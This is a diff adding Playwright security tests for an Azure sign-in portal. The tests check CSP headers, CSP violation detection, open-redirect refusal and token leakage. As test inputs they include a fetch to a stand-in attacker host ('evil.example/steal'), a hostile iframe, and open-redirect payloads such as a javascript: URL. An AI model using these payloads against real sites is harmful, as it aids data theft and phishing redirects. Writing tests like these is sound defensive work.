@@ -1,0 +1,367 @@
+import { readFileSync } from 'node:fs';
+import type { Page, Response } from '@playwright/test';
+import { test, expect, signIn, chooseAndRegister, grantDigitalTwins, watchCspViolations } from './fixtures';
+import { APP_ORIGIN, TEST_CLIENT_ID } from './support/constants';
+
+/** What the deployment ships; `vite preview` applies it (scripts/static-web-app-headers.ts). */
+const shipped = JSON.parse(readFileSync('public/staticwebapp.config.json', 'utf8')) as {
+  globalHeaders: Record<string, string>;
+  routes: Array<{ route: string; headers?: Record<string, string> }>;
+};
+const GLOBAL_CSP = shipped.globalHeaders['Content-Security-Policy']!;
+const LOGIN = 'https://login.microsoftonline.com';
+const ARM = 'https://management.azure.com';
+
+/** A Content-Security-Policy as directive → sources. */
+function directives(policy: string | undefined): Record<string, string[]> {
+  const map: Record<string, string[]> = {};
+  for (const part of (policy ?? '').split(';')) {
+    const [name, ...sources] = part.trim().split(/\s+/);
+    if (name) map[name.toLowerCase()] = sources;
+  }
+  return map;
+}
+
+/** The policy every document gets, whatever else it allows: nothing inline, no eval, Microsoft only. */
+function expectStrictPolicy(policy: string | undefined): void {
+  const d = directives(policy);
+  expect(policy).not.toMatch(/'unsafe-inline'|'unsafe-eval'|'unsafe-hashes'|'wasm-unsafe-eval'|\bdata:|\bblob:|\*/);
+  expect(d['default-src']).toEqual(["'none'"]);
+  expect(d['script-src']).toEqual(["'self'"]);
+  expect(d['style-src']).toEqual(["'self'"]);
+  expect(d['object-src']).toEqual(["'none'"]);
+  expect(d['base-uri']).toEqual(["'none'"]);
+  expect(d['form-action']).toEqual(["'self'"]);
+  expect(d['connect-src']).toEqual(["'self'", LOGIN, ARM]);
+  for (const source of d['frame-src'] ?? []) expect(["'self'", LOGIN, ARM]).toContain(source);
+}
+
+function expectCommonHeaders(headers: Record<string, string>): void {
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  expect(headers['referrer-policy']).toBe('no-referrer');
+  const permissions = headers['permissions-policy'] ?? '';
+  for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb']) expect(permissions).toContain(`${feature}=()`);
+  // "Copy report" needs the clipboard: it must stay allowed.
+  expect(permissions).not.toContain('clipboard-write');
+}
+
+test.describe('headers from public/staticwebapp.config.json', () => {
+  test('the app, a deep link, config.json and the assets carry the strict policy and the usual headers', async ({ request }) => {
+    const html = { accept: 'text/html' };
+    for (const path of ['/', '/demo/sign-in', '/onboarding/some/deep/link?step=2']) {
+      const response = await request.get(path, { headers: html });
+      expect(response.status(), path).toBe(200);
+      expect(await response.text(), path).toContain('<div id="root">'); // the SPA's page, by the fallback
+      const headers = response.headers();
+      expect(headers['content-security-policy'], path).toBe(GLOBAL_CSP);
+      expectStrictPolicy(headers['content-security-policy']);
+      expect(directives(headers['content-security-policy'])['frame-ancestors'], path).toEqual(["'none'"]);
+      expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
+      expect(headers['cache-control'], path).toBe('no-cache');
+      expectCommonHeaders(headers);
+    }
+
+    const config = await request.get('/config.json');
+    expect(config.status()).toBe(200);
+    expect((await config.json()).clientId).toBe(TEST_CLIENT_ID);
+    expect(config.headers()['cache-control']).toBe('no-cache'); // operators replace the file: always revalidate
+    expect(config.headers()['content-security-policy']).toBe(GLOBAL_CSP);
+    expectCommonHeaders(config.headers());
+
+    const index = await (await request.get('/')).text();
+    const script = /<script type="module" crossorigin src="(\/assets\/main-[\w-]+\.js)"/.exec(index)?.[1];
+    expect(script).toBeDefined();
+    const asset = await request.get(script!);
+    expect(asset.headers()['content-type']).toMatch(/javascript/);
+    expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
+    expectCommonHeaders(asset.headers());
+  });
+
+  test('the redirect bridge page: no COOP, no-store, the same policy but framable by this site', async ({ request }) => {
+    const response = await request.get('/redirect.html');
+    expect(response.status()).toBe(200);
+    const headers = response.headers();
+    expect(headers['cross-origin-opener-policy']).toBeUndefined();
+    expect(headers['cache-control']).toBe('no-store');
+    expectStrictPolicy(headers['content-security-policy']);
+    expect(directives(headers['content-security-policy'])['frame-ancestors']).toEqual(["'self'"]);
+    expectCommonHeaders(headers);
+    // A bundled module script, nothing inline: the strict script-src suits it.
+    const html = await response.text();
+    expect(html).toMatch(/<script type="module" crossorigin src="\/assets\/redirect-[\w-]+\.js"><\/script>/);
+    expect(html).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son\w+=/i);
+  });
+});
+
+test.describe('the app under the policy', () => {
+  // 404: /favicon.ico, which Chromium asks for when /redirect.html (which names no icon) is the top-level page.
+  test.use({ allowedHttpErrors: [404] });
+
+  test('the landing page and the redirect bridge run without a violation, the bridge also framed by the app', async ({ page }) => {
+    const landing = await page.goto('/');
+    expect(landing?.headers()['content-security-policy']).toBe(GLOBAL_CSP);
+    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
+    const index = await landing!.text();
+    expect(index).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son\w+=/i);
+
+    // MSAL's hidden iframes (silent sign-in) land on the bridge page inside the app: frame-src and frame-ancestors 'self'.
+    await page.evaluate(() => {
+      const frame = document.createElement('iframe');
+      frame.title = 'Redirect bridge';
+      frame.src = '/redirect.html';
+      document.body.append(frame);
+    });
+    // Without a sign-in response in its address the bridge's module script says so: it ran under the policy.
+    await expect(page.frameLocator('iframe[title="Redirect bridge"]').getByText('Sign-in could not be completed in this window')).toBeVisible();
+
+    const bridge = await page.goto('/redirect.html');
+    expect(bridge?.headers()['cross-origin-opener-policy']).toBeUndefined();
+    await expect(page.getByText('Sign-in could not be completed in this window')).toBeVisible();
+    // The fixture fails the test on any CSP violation or console error.
+  });
+
+  test('the CSP violation detector catches deliberate violations (in a throwaway page)', async ({ browser }) => {
+    // A context of its own: the violations below must not fail this test through the page fixture.
+    const context = await browser.newContext({ baseURL: APP_ORIGIN });
+    try {
+      const violations = await watchCspViolations(context);
+      const page = await context.newPage();
+      const consoleErrors: string[] = [];
+      page.on('console', (message) => {
+        if (message.type() === 'error') consoleErrors.push(message.text());
+      });
+      await page.goto('/');
+      await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
+      expect(violations).toEqual([]);
+
+      const outcome = await page.evaluate(async () => {
+        const script = document.createElement('script');
+        script.textContent = 'window.__inlineScriptRan = true;';
+        document.head.append(script);
+        // Later, in a task of the page's own: DevTools lets code it evaluates itself use eval.
+        const evalOutcome = await new Promise<string>((resolve) =>
+          setTimeout(() => {
+            try {
+              (0, eval)('1 + 1');
+              resolve('ran');
+            } catch (error) {
+              resolve((error as Error).name);
+            }
+          }, 0),
+        );
+        let fetchOutcome = 'ran';
+        try {
+          await fetch('https://evil.example/steal');
+        } catch (error) {
+          fetchOutcome = (error as Error).name;
+        }
+        const styled = document.createElement('p');
+        styled.setAttribute('style', 'color: red');
+        document.body.append(styled);
+        const frame = document.createElement('iframe');
+        frame.src = 'https://evil.example/frame';
+        document.body.append(frame);
+        return {
+          inlineScriptRan: (window as unknown as { __inlineScriptRan?: boolean }).__inlineScriptRan === true,
+          evalOutcome,
+          fetchOutcome,
+          inlineStyleApplied: getComputedStyle(styled).color === 'rgb(255, 0, 0)',
+        };
+      });
+      expect(outcome).toEqual({ inlineScriptRan: false, evalOutcome: 'EvalError', fetchOutcome: 'TypeError', inlineStyleApplied: false });
+
+      await expect
+        .poll(() => [...new Set(violations.map((v) => v.directive))].sort())
+        .toEqual(['connect-src', 'frame-src', 'script-src', 'script-src-elem', 'style-src-attr']);
+      expect(violations.find((v) => v.directive === 'connect-src')?.blocked).toBe('https://evil.example/steal');
+      expect(violations.find((v) => v.directive === 'script-src-elem')?.blocked).toBe('inline');
+      expect(violations.every((v) => v.documentURL === `${APP_ORIGIN}/` && v.disposition === 'enforce')).toBe(true);
+      // Chromium logs them as console errors too, which the page fixture also fails a test on.
+      await expect.poll(() => consoleErrors.filter((t) => t.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(5);
+
+      // Frames are watched too (MSAL's hidden iframes land on the bridge page): a violation inside one is caught.
+      await page.evaluate(() => {
+        const frame = document.createElement('iframe');
+        frame.title = 'Redirect bridge';
+        frame.src = '/redirect.html';
+        document.body.append(frame);
+      });
+      const bridge = page.frameLocator('iframe[title="Redirect bridge"]');
+      await expect(bridge.getByText('Sign-in could not be completed in this window')).toBeVisible();
+      await bridge.locator('body').evaluate((body) => {
+        const script = document.createElement('script');
+        script.textContent = 'void 0;';
+        body.append(script);
+      });
+      await expect
+        .poll(() => violations.filter((v) => v.documentURL === `${APP_ORIGIN}/redirect.html`).map((v) => v.directive))
+        .toEqual(['script-src-elem']);
+
+      // frame-ancestors 'none': not even this site may frame the app (clickjacking).
+      await page.evaluate(() => {
+        const frame = document.createElement('iframe');
+        frame.title = 'Framed app';
+        frame.src = '/';
+        document.body.append(frame);
+      });
+      await expect.poll(() => consoleErrors.some((t) => t.includes("frame-ancestors 'none'"))).toBe(true);
+      await expect(page.frameLocator('iframe[title="Framed app"]').getByRole('heading', { name: 'Sign in' })).toHaveCount(0);
+    } finally {
+      await context.close();
+    }
+  });
+});
+
+test.describe('open redirect', () => {
+  for (const returnUrl of ['https://evil.example/', `http://localhost:${new URL(APP_ORIGIN).port}@evil.example/`, '//evil.example/', 'javascript:alert(document.domain)']) {
+    test(`a returnUrl outside the allow-list is refused: ${returnUrl}`, async ({ page }) => {
+      await page.route(`${APP_ORIGIN}/config.json`, (route) =>
+        route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ clientId: TEST_CLIENT_ID, returnUrl }) }),
+      );
+      await page.goto('/');
+      const alert = page.getByRole('alert');
+      await expect(alert.getByRole('heading', { name: 'This portal is not configured correctly' })).toBeVisible();
+      const row = alert.getByRole('row', { name: /returnUrl/ });
+      await expect(row).toContainText(returnUrl);
+      await expect(row).toContainText('allowedReturnOrigins');
+      // The portal does not start, and nothing offers the way out.
+      await expect(page.getByRole('button', { name: 'Sign in with Microsoft' })).toHaveCount(0);
+      await expect(page.getByRole('link')).toHaveCount(0);
+    });
+  }
+
+  test('a returnUrl on an origin the operator allowed is accepted', async ({ page }) => {
+    await page.route(`${APP_ORIGIN}/config.json`, (route) =>
+      route.fulfill({
+        status: 200,
+        contentType: 'application/json',
+        body: JSON.stringify({ clientId: TEST_CLIENT_ID, returnUrl: 'https://twins.contoso.example/done', allowedReturnOrigins: ['https://twins.contoso.example'] }),
+      }),
+    );
+    await page.goto('/');
+    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
+    await expect(page.getByRole('alert')).toHaveCount(0);
+  });
+});
+
+/** The tokens Entra ID (the emulator) issued to the page, read from the token endpoint's answers. */
+function collectIssuedTokens(page: Page): { tokens: Set<string>; settled: () => Promise<void> } {
+  const tokens = new Set<string>();
+  const reading: Promise<void>[] = [];
+  page.on('response', (response: Response) => {
+    const request = response.request();
+    if (request.method() !== 'POST' || !new URL(response.url()).pathname.endsWith('/oauth2/v2.0/token') || response.status() !== 200) return;
+    reading.push(
+      response.json().then((body: Record<string, unknown>) => {
+        for (const key of ['access_token', 'id_token', 'refresh_token']) {
+          if (typeof body[key] === 'string') tokens.add(body[key]);
+        }
+      }),
+    );
+  });
+  return { tokens, settled: async () => void (await Promise.all(reading)) };
+}
+
+/** A token, and for JWT-shaped ones also its payload and signature: a leak of either part is a leak. */
+function needles(tokens: Iterable<string>): string[] {
+  const out: string[] = [];
+  for (const token of tokens) {
+    out.push(token);
+    const [, payload, signature] = token.split('.');
+    if (payload && payload.length >= 16) out.push(payload);
+    if (signature && signature.length >= 16) out.push(signature);
+  }
+  return out;
+}
+
+function leaks(haystack: string, tokens: Iterable<string>): number {
+  return needles(tokens).filter((needle) => haystack.includes(needle)).length;
+}
+
+async function storage(page: Page, area: 'localStorage' | 'sessionStorage'): Promise<Record<string, string>> {
+  return page.evaluate((name) => {
+    const store = window[name];
+    const entries: Record<string, string> = {};
+    for (let i = 0; i < store.length; i++) {
+      const key = store.key(i)!;
+      entries[key] = store.getItem(key) ?? '';
+    }
+    return entries;
+  }, area);
+}
+
+test.describe('tokens', () => {
+  // 400: Entra's consent_required answer to the first silent Digital Twins request, before the user consents.
+  test.use({ allowedHttpErrors: [400] });
+
+  test('never appear in a URL, localStorage, the console, the page or the copied report', async ({ page, context, emulator }) => {
+    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: APP_ORIGIN });
+    const issued = collectIssuedTokens(page);
+    const urls: string[] = [];
+    context.on('request', (request) => urls.push(request.url()));
+    page.on('framenavigated', (frame) => urls.push(frame.url()));
+    const consoleTexts: string[] = [];
+    page.on('console', (message) => consoleTexts.push(message.text()));
+
+    await page.goto('/');
+    await signIn(page, 'Ada Admin');
+    urls.push(page.url());
+    await chooseAndRegister(page);
+    await expect(page.getByText('Azure is registering')).toBeVisible();
+    emulator.clock.advance(20_000);
+    await expect(page.getByRole('heading', { level: 1, name: 'Verify access' })).toBeVisible();
+    await grantDigitalTwins(page, 'Ada Admin');
+    await expect(page.getByRole('heading', { name: 'Your directory is ready' })).toBeVisible();
+    urls.push(page.url());
+
+    await page.getByRole('button', { name: 'Copy report' }).click();
+    await expect(page.getByRole('status').filter({ hasText: 'Copied to the clipboard.' })).toBeVisible();
+    const copied = await page.evaluate(() => navigator.clipboard.readText());
+    const shown = (await page.getByLabel('Onboarding report (JSON)').textContent()) ?? '';
+    expect(JSON.parse(copied).verification.account).toBe('admin@contoso.onmicrosoft.com');
+
+    await issued.settled();
+    const tokens = [...issued.tokens];
+    // Sign-in (ARM) and verification (Digital Twins): access, ID and refresh tokens were really issued...
+    expect(tokens.length).toBeGreaterThanOrEqual(4);
+    // ...and MSAL keeps them in sessionStorage, so the searches below look for strings that do exist.
+    const session = JSON.stringify(await storage(page, 'sessionStorage'));
+    expect(tokens.filter((t) => session.includes(t)).length).toBeGreaterThanOrEqual(3);
+
+    // By design the authorization code comes back in the redirect; that is all that may.
+    expect(urls.some((u) => /[?#&]code=/.test(u))).toBe(true);
+    expect(urls.filter((u) => /[?#&](access_token|id_token|refresh_token|id_token_hint)=/.test(u))).toEqual([]);
+    expect(urls.filter((u) => leaks(u, tokens) > 0)).toEqual([]);
+    expect(page.url()).not.toMatch(/[?#&]code=/);
+
+    const local = await storage(page, 'localStorage');
+    expect(Object.keys(local).filter((k) => /token/i.test(k))).toEqual([]);
+    expect(leaks(JSON.stringify(local), tokens)).toBe(0);
+    expect(consoleTexts.filter((t) => leaks(t, tokens) > 0)).toEqual([]);
+    expect(leaks(copied, tokens)).toBe(0);
+    expect(leaks(shown, tokens)).toBe(0);
+    expect(leaks(await page.content(), tokens)).toBe(0);
+  });
+
+  test("sign-out clears MSAL's token cache", async ({ page, context }) => {
+    const issued = collectIssuedTokens(page);
+    const urls: string[] = [];
+    context.on('request', (request) => urls.push(request.url()));
+    await page.goto('/');
+    await signIn(page, 'Ada Admin');
+    await expect(page.getByRole('button', { name: 'Use this subscription: Contoso Production' })).toBeVisible();
+    await issued.settled();
+    const before = await storage(page, 'sessionStorage');
+    expect(Object.keys(before).filter((k) => /accesstoken|refreshtoken|idtoken/i.test(k)).length).toBeGreaterThanOrEqual(3);
+
+    await page.getByRole('button', { name: 'Sign out' }).click();
+    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
+    const after = { ...(await storage(page, 'sessionStorage')), ...(await storage(page, 'localStorage')) };
+    expect(Object.keys(after).filter((k) => /accesstoken|refreshtoken|idtoken/i.test(k))).toEqual([]);
+    expect(leaks(JSON.stringify(after), issued.tokens)).toBe(0);
+    // The sign-out request names no token (no id_token_hint) either.
+    const logout = urls.filter((u) => u.includes('/oauth2/v2.0/logout'));
+    expect(logout).toHaveLength(1);
+    expect(logout.filter((u) => /id_token_hint=/.test(u) || leaks(u, issued.tokens) > 0)).toEqual([]);
+  });
+});
